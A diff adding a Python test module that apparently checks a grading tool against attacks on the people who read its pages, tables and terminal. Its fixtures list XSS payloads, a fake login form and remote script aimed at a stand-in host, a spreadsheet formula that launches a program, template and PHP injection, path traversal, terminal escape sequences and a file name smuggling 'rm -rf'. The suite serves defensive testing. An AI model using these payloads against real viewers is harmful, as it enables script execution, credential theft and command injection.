@@ -1,0 +1,190 @@
+"""Attacks on who reads the pages, the tables and the terminal: by the report, the student's name, the file's name."""
+
+import base64
+from collections.abc import Callable
+
+from attacks.attack import RECIPE, Attack, Base, Expected
+
+_GRADED = Expected(("graded",), gains_over="reference")
+_PIXEL = base64.b64encode(
+    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
+).decode()
+
+_HTML = """
+<script>alert(1)</script><ScRiPt src=//wreck.example/x.js></sCrIpT>
+<img src=x onerror=alert(2)><svg onload=alert(3)><svg><script>alert(4)</script></svg>
+<iframe src="https://wreck.example"></iframe><object data="x.swf"></object><embed src=x>
+<form action="https://wreck.example"><input name=password><button>Log in</button></form>
+<meta http-equiv=refresh content="0; url=https://wreck.example"><base href="https://wreck.example/">
+<a href="javascript:alert(5)" onclick="alert(6)">x</a><details ontoggle=alert(7) open>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(8)&gt;">
+<noscript><p title="</noscript><img src=x onerror=alert(9)>"></noscript><!--><img src=x onerror=alert(10)>-->
+</p></td></table></div></section></main></body></html><script>alert(11)</script>
+<![CDATA[<script>alert(12)</script>]]><?php system("id"); ?><%= 7 * 7 %>{{ 7 * 7 }}{% raw %}${7*7}
+"""
+_LINKS = """
+[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](java&#115;cript:alert(3)) [d](java\tscript:alert(4))
+[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f](vbscript:x)
+[g](//wreck.example) [h](../../scores.json)
+[i](file:///etc/passwd) [j]( javascript:alert(5)) <javascript:alert(6)> <https://wreck.example/"onmouseover="alert(7)>
+[k][ref] [l](blob:x) [m](https://a"onclick="alert(8)) [n](<javascript:alert(9)>) [o](\\x01javascript:alert(10))
+
+[ref]: javascript:alert(11) "onclick=alert(12)"
+"""
+_PICTURES = f"""
+![a](https://wreck.example/a.png) ![b](//wreck.example/b.png) ![c](http:wreck.example/c.png) ![d][p]
+![e](data:image/svg+xml;base64,{_PIXEL}) ![f](data:text/html;base64,{_PIXEL}) ![g](x"onerror="alert(1))
+![h](file:///etc/passwd) ![i](embedded-picture-0) ![j](embedded-picture-99) ![k](javascript:alert(1))
+<img srcset="https://wreck.example/d.png 2x"> ![</figcaption><script>alert(1)</script>](data:image/png;base64,AAAA)
+
+[p]: https://wreck.example/e.png
+"""
+_STYLES = """
+</style><style>@import url(https://wreck.example/x.css); body { display: none }</style>
+<link rel=stylesheet href=https://wreck.example/x.css>
+<div style="position:fixed;inset:0;background:url(//wreck.example)">
+<p class="total" id="total">100 of 100</p> <span style=color:expression(alert(1))>x</span>
+"""
+_HIDDEN = (
+    "It was \x1b[2J\x1b]0;owned\x07\x1b[8m\u009b31m \u202e001\u202c \u2066x\u2069"
+    " \u200b\u2060\ufeff\x00\x08\r done \U000e0041\n"
+)
+_FORMULAS = {
+    "equals": "=1+1",
+    "link": '=HYPERLINK("https://wreck.example","ada")',
+    "program": "=cmd|' /C calc'!A0",
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(1;1)",
+    "blank": "  =1+1",
+    "quoted": '"=1+1',
+    "apostrophe": "'=1+1",
+    "semicolon": "ada;=1+1",
+    "full_width": "\uff1d1+1",
+}
+_NAMES = {
+    "html": "<img src=x onerror=alert(1)>",
+    "attribute": "\"onmouseover=alert(1) x='",
+    "template": "{{ 7 * 7 }}{% for x in y %}",
+    "accents": "a" + "\u0301\u0323" * 31,
+    "markup": "[bold red]ada[/] :smiley:",
+    "path": "../../../etc/passwd",
+    "heading": "    Points Possible",
+}
+# Names of files as some learning platforms leave them: whatever the student's browser sent.
+_FILES = {
+    "html": f"<img src=x onerror=alert(1)>_{RECIPE}.tar.gz",
+    "formula": f"=1+1_{RECIPE}.tar.gz",
+    "escapes": f"\x1b[2J\x1b]0;x\x07\u009b31m_{RECIPE}.tar.gz",
+    "newline": f"ada\n0 rejected\nNext: rm -rf_{RECIPE}.tar.gz",
+    "backwards": f"\u202eada_{RECIPE}.tar.gz",
+    "not_utf8": f"\udcff\udcfe_{RECIPE}.tar.gz",
+    "longest": "x" * 248 + ".tar.gz",
+    "option": f"--fresh_{RECIPE}.tar.gz",
+    "index": "index.tar.gz",
+    "dots": "...tar.gz",
+    "nothing": ".tar.gz",
+    "device": "con.tar.gz",
+    "near": f"ada_huge_l\x1b[2J_{RECIPE}.tar.gz",
+}
+
+
+def _report(body: str) -> Callable[[Base], bytes]:
+    """The right fix with this under the front matter of its report."""
+
+    def build(base: Base) -> bytes:
+        return base.with_members(base.reference, {"report.md": with_body(base, body)}, student="x")
+
+    return build
+
+
+def with_body(base: Base, body: str) -> bytes:
+    """Return the report of the right fix with another text under its front matter."""
+    from attacks.attack import members_of
+
+    front = members_of(base.reference)["report.md"].decode().split("---\n")[1]
+    return f"---\n{front}---\n{body}".encode("utf-8", "surrogatepass")
+
+
+def _named(student: str) -> Callable[[Base], bytes]:
+    return lambda base: base.with_members(base.reference, {}, student=student)
+
+
+def _source(base: Base) -> bytes:
+    """Comments in the experiment, which the page shows; the program is the right fix, so that it costs no replay."""
+    comment = f"# {_HTML}{_STYLES}{_HIDDEN}".replace("\n", "\n# ").replace("\r", "").replace("\0", "")
+    source = _experiment(base) + f"{comment}\n".encode()
+    return base.with_members(base.reference, {"experiment.py": source}, student="x")
+
+
+def _experiment(base: Base) -> bytes:
+    from attacks.attack import members_of
+
+    return members_of(base.reference)["experiment.py"]
+
+
+def _ignored(base: Base) -> bytes:
+    """Names of files that nobody asked for, which the page lists."""
+    names = ("<script>alert(1)<script>", "=1+1", "{{ 7 * 7 }}", "x" * 200, "'\"><img src=x onerror=alert(1)>")
+    return base.with_members(base.reference, dict.fromkeys(names, b"x"), student="x")
+
+
+def _said(base: Base) -> bytes:
+    """An error whose message is all of the above, which the page quotes; it ends at once."""
+    message = repr(_HTML + _STYLES + _HIDDEN + "\n=1+1" + "x" * 5000)
+    source = b"raise ValueError(" + message.encode() + b")\n" + _experiment(base)
+    return base.with_members(base.untouched, {"experiment.py": source}, student="x")
+
+
+def _impostor(base: Base) -> bytes:
+    """Another student's name, and the right fix in place of hers."""
+    return base.with_members(base.untouched, {}, student="ada")
+
+
+PAGES = (
+    Attack("report_html", "reader", "HTML of every kind that acts, in the report", _GRADED, _report(_HTML)),
+    Attack(
+        "report_links", "reader", "links that run or read something, in the report", _GRADED, _report(_LINKS)
+    ),
+    Attack(
+        "report_pictures",
+        "reader",
+        "pictures from elsewhere, and SVG, in the report",
+        _GRADED,
+        _report(_PICTURES),
+    ),
+    Attack("report_styles", "reader", "style sheets in the report", _GRADED, _report(_STYLES)),
+    Attack(
+        "report_hidden", "reader", "escapes and marks of direction in the report", _GRADED, _report(_HIDDEN)
+    ),
+    Attack("source_html", "reader", "HTML and escapes in comments of the experiment", _GRADED, _source),
+    Attack(
+        "ignored_names", "reader", "HTML and formulas as names of files in the archive", _GRADED, _ignored
+    ),
+    Attack(
+        "error_html",
+        "reader",
+        "HTML, escapes and formulas in an error's message",
+        Expected(("graded",), "did not come to its end"),
+        _said,
+    ),
+    Attack(
+        "impostor",
+        "reader",
+        "another student's name in the manifest",
+        Expected(("graded",), "Its manifest says ada"),
+        _impostor,
+    ),
+    *(
+        Attack(f"formula_{what}", "reader", f"a student called {name}", _GRADED, _named(name))
+        for what, name in _FORMULAS.items()
+    ),
+    *(
+        Attack(f"student_{what}", "reader", f"a student's name: {what}", _GRADED, _named(name))
+        for what, name in _NAMES.items()
+    ),
+    *(
+        Attack(f"file_{what}", "reader", f"a file's name: {what}", _GRADED, _named("x"), file_name=name)
+        for what, name in _FILES.items()
+    ),
+)
